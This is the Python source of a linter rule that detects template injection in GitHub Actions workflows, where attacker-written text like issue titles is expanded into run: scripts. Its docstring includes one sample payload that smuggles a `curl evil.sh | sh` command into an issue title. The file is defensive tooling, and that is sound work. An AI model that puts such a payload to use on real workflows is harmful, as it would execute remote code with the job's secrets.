"""Attacker-controlled text expanded into a script (template injection).

## What it does
Finds `${{ … }}` expressions whose value can carry text an attacker chose
(issue, pull request, comment, review and discussion text, head branch
names, commit messages and authors, wiki page names, the `workflow_run`
head branch, and values carried from them through `env:`, `matrix`, step
outputs and job outputs) where the runner pastes them into code:

- `run:` in every shell, in workflow jobs and in composite actions
  (`action.yml`);
- the `script:` input of `actions/github-script`.

The taint model (see `sentra_lint.workflow.taint`) works on the parsed
expression: `${{ github.event.issue.number }}`, comparisons, `contains()`
and `cond && 'x' || ''` are not reported; a field that no trigger of the
workflow sends is not reported. By default only high-confidence sources
(free text any GitHub user can write) are reported; the option
`min-confidence: medium` adds `workflow_dispatch` inputs and
`repository_dispatch` payloads, `low` adds caller inputs of reusable
workflows and composite actions, label names and unknown event fields.

Across files: a workflow step that passes attacker text through `with:`
to a composite action of the repository (`uses: ./.github/actions/x` or
`$/...`), whose `run:` expands that input (`${{ inputs.title }}`), is
reported at the caller's `with:` value, with the expansion in the action
as a related location, when outsiders can start the calling job (its
triggers and `if:` gates). The same holds for a job that calls a reusable
workflow of the repository (`jobs.<id>.uses: ./.github/workflows/x.yml`)
whose `run:` expands a `workflow_call` string input. The action or called
workflow alone, without such a caller, is reported only at
`min-confidence: low`.

Chains are followed: a reusable workflow or composite action that passes
its own input on through `with:` to another file of the repository
(caller -> reusable workflow -> composite action, or composite ->
composite) expands it wherever that file does. The finding stays at the
outermost caller's `with:` value; the message names every file the text
passes, and each hop (where the input is passed on) and the final
expansion are related locations. A file is visited once per route, so
actions that call each other end.

A malformed expression in a sink (`${{ unclosed`, `${{ a b }}`) is
reported by this rule as malformed, with the parser's reason: GitHub
rejects such a workflow, and what it would expand to cannot be known.

## Why is this bad?
The runner substitutes expressions into the script text before the shell
(or Node.js) reads it. An issue titled `a"; curl evil.sh | sh; echo "` then
becomes shell code running with the job's token and secrets.

## Example
```yaml
on: issues
jobs:
  triage:
    runs-on: ubuntu-latest
    steps:
      - run: echo "New issue: ${{ github.event.issue.title }}"
```

## Use instead
```yaml
on: issues
jobs:
  triage:
    runs-on: ubuntu-latest
    steps:
      - env:
          TITLE: ${{ github.event.issue.title }}
        run: echo "New issue: $TITLE"
```
In `actions/github-script`, read `process.env.TITLE` or
`context.payload.issue.title` instead of expanding the expression.
"""

from __future__ import annotations

from collections.abc import Iterator
from typing import TYPE_CHECKING

from sentra_lint._dataclass import dataclass
from sentra_lint._lazy_re import lazy_compile
from sentra_lint.findings import Related, Severity, Violation
from sentra_lint.rulebase import RuleContext, RuleMeta
from sentra_lint.source import Span
from sentra_lint.workflow.analysis import (
    LocatedExpr,
    action_path,
    all_scopes,
    scalar_expressions,
)
from sentra_lint.workflow.model import Workflow
from sentra_lint.workflow.taint import Confidence, TaintKind
from sentra_lint.yamlmodel import ScalarNode

if TYPE_CHECKING:
    from sentra_lint.crossfile import Repository
    from sentra_lint.crossfile.facts import FileFacts
    from sentra_lint.workflow.calls import InputSink, LocalCall, PassedValue
    from sentra_lint.workflow.taint import TaintSource

META = RuleMeta(
    id="SW002",
    slug="template-injection",
    title="Attacker-controlled expression expanded into a script",
    severity=Severity.ERROR,
    also=(Severity.WARNING,),
    security_severity=9.0,
    area="workflow",
    precision="high",
    options={
        "min-confidence": {
            "type": "string",
            "enum": ["high", "medium", "low"],
            "default": "high",
            "description": "Lowest confidence of attacker control to report.",
        }
    },
)


def _message(found: LocatedExpr, sink: str, minimum: Confidence) -> str:
    sources = [s for s in found.taint.sources if s.confidence >= minimum]
    names = list(dict.fromkeys(s.describe() for s in sources))
    shown = ", ".join(f"'{n}'" for n in names[:3])
    reason = sources[0].reason if sources else ""
    if "github-script" in sink:
        fix = "pass it through env: and read process.env.VAR"
    else:
        fix = 'pass it through env: and use "$VAR"'
    return f"{shown} is expanded into {sink} ({reason}); {fix}"


def _sink(
    wf: Workflow, node: ScalarNode, sink: str, found: list[LocatedExpr], minimum: Confidence
) -> Iterator[Violation]:
    for item in found:
        if item.taint.malformed:
            reason = item.taint.error.message if item.taint.error else "cannot be parsed"
            yield Violation(
                item.span,
                f"malformed expression in {sink}: {reason}; GitHub rejects it and what it "
                "would expand to cannot be checked",
                severity=Severity.WARNING,
            )
            continue
        if item.taint.at_least(minimum).tainted:
            yield Violation(item.span, _message(item, sink, minimum))


def check(wf: Workflow, ctx: RuleContext) -> Iterator[Violation]:
    minimum = Confidence.parse(ctx.option("min-confidence"))
    for scope in all_scopes(wf):
        step = scope.step
        if step.run is not None:
            found = scalar_expressions(wf, step.run, scope.ctx)
            yield from _sink(wf, step.run, "a run: script", found, minimum)
        if action_path(step) == "actions/github-script":
            script = step.input_scalar("script")
            if script is not None:
                found = scalar_expressions(wf, script, scope.ctx)
                yield from _sink(wf, script, "a github-script script", found, minimum)


def _chain(source: TaintSource) -> str:
    return " -> ".join((source.path, *reversed(source.via)))


_INPUT = lazy_compile(r"^inputs\.([A-Za-z_][A-Za-z0-9_-]*)$")
# Calls followed from one file to the next (caller -> workflow -> action -> action ...).
_MAX_HOPS = 8


@dataclass(frozen=True, slots=True)
class _Hop:
    """A called file passing one of its inputs on to a file it calls."""

    facts: FileFacts
    call: LocalCall
    passed: PassedValue
    name: str
    """The input of ``facts`` that is passed on."""
    via: tuple[str, ...]
    """Names the input travelled through in ``facts`` before ``with:``."""


@dataclass(frozen=True, slots=True)
class _Route:
    """A chain of calls by which an input reaches a sink in another file."""

    hops: tuple[_Hop, ...]
    sink_file: FileFacts
    sink: InputSink


def _shown(call: LocalCall, callee: FileFacts) -> tuple[str, str]:
    """How a call names the called file (``./.github/actions/x/action.yml``), and what it is."""
    shown = call.target.rstrip("/")
    if call.kind == "action":
        return shown + "/" + callee.abspath.replace("\\", "/").rsplit("/", 1)[-1], "the action"
    return shown, "the called workflow"


def _routes(
    repo: Repository, callee: FileFacts, name: str, seen: frozenset[tuple[str, str]] = frozenset()
) -> list[_Route]:
    """Every place the input ``name`` of ``callee`` reaches a ``run:`` script:
    its own sinks, and the sinks of files it passes the input on to
    (transitively, each file and input once on a route)."""
    key = (callee.abspath, name)
    if key in seen or len(seen) >= _MAX_HOPS:
        return []
    seen = seen | {key}
    out = [_Route((), callee, s) for s in callee.sinks if s.name == name]
    for call in callee.calls:
        nxt = repo.called(callee, call.target, call.kind)
        if nxt is None:
            continue
        for passed in call.passed:
            for source in passed.sources:
                m = _INPUT.match(source.path)
                if source.kind is not TaintKind.CALLER or m is None or m.group(1).lower() != name:
                    continue
                hop = _Hop(callee, call, passed, name, source.via)
                for route in _routes(repo, nxt, passed.name.lower(), seen):
                    out.append(_Route((hop, *route.hops), route.sink_file, route.sink))
                break
    return out


def _where(first: str, route: _Route, call: LocalCall, callee: FileFacts) -> str:
    """``inputs.title in ./.github/workflows/x.yml:9 -> with: text -> inputs.text in
    ./.github/actions/y/action.yml:12``: each file the value passes, and the line."""
    name, target = first, _shown(call, callee)[0]
    reached = [*(h.facts for h in route.hops[1:]), route.sink_file][: len(route.hops)]
    parts: list[str] = []
    for hop, nxt in zip(route.hops, reached, strict=True):
        vias = "".join(f" -> {v}" for v in reversed(hop.via))
        parts.append(f"inputs.{name}{vias} in {target}:{hop.passed.span.line} -> with: {hop.passed.name}")
        name, target = hop.passed.name, _shown(hop.call, nxt)[0]
    vias = "".join(f" -> {v}" for v in reversed(route.sink.via))
    parts.append(f"inputs.{name}{vias} in {target}:{route.sink.span.line}")
    return " -> ".join(parts)


def _related(routes: list[_Route]) -> tuple[Related, ...]:
    """Every hop of every route (where the input is passed on), then every sink."""
    out: dict[tuple[str, Span], Related] = {}
    for route in routes:
        for i, hop in enumerate(route.hops):
            following = route.hops[i + 1].facts if i + 1 < len(route.hops) else route.sink_file
            shown, _what = _shown(hop.call, following)
            out.setdefault(
                (hop.facts.path, hop.passed.span),
                Related(
                    hop.facts.path,
                    hop.passed.span,
                    f"inputs.{hop.name} is passed on to {shown} as with: {hop.passed.name} ({hop.call.label})",
                ),
            )
    for route in routes:
        out.setdefault(
            (route.sink_file.path, route.sink.span),
            Related(
                route.sink_file.path,
                route.sink.span,
                f"inputs.{route.sink.name} is expanded into a run: script ({route.sink.label})",
            ),
        )
    return tuple(out.values())


def check_repository(repo: Repository, ctx: RuleContext) -> Iterator[Violation]:
    """A caller's ``with:`` value that carries attacker text into an input
    the called action expands into a ``run:`` script, directly or through
    the files it passes the input on to."""
    minimum = Confidence.parse(ctx.option("min-confidence"))
    for caller in repo.files:
        for call in caller.calls:
            if not call.outsiders:
                continue
            callee = repo.called(caller, call.target, call.kind)
            if callee is None or not (callee.sinks or callee.calls):
                continue
            what = _shown(call, callee)[1]
            for passed in call.passed:
                sources = [s for s in passed.sources if s.confidence >= minimum]
                if not sources:
                    continue
                routes = _routes(repo, callee, passed.name.lower())
                if not routes:
                    continue
                chains = list(dict.fromkeys(_chain(s) for s in sources))
                where = _where(passed.name, routes[0], call, callee)
                path = " | ".join(f"{c} -> with: {passed.name} -> {where}" for c in chains[:2])
                more = (
                    f" (and {len(routes) - 1} more place(s) in {what})" if len(routes) > 1 else ""
                )
                yield Violation(
                    passed.span,
                    f"{path} is expanded into a run: script{more} ({sources[0].reason}); "
                    f'{call.reach}; in {what}, pass the input through env: and use "$VAR"',
                    related=_related(routes),
                    path=caller.path,
                )
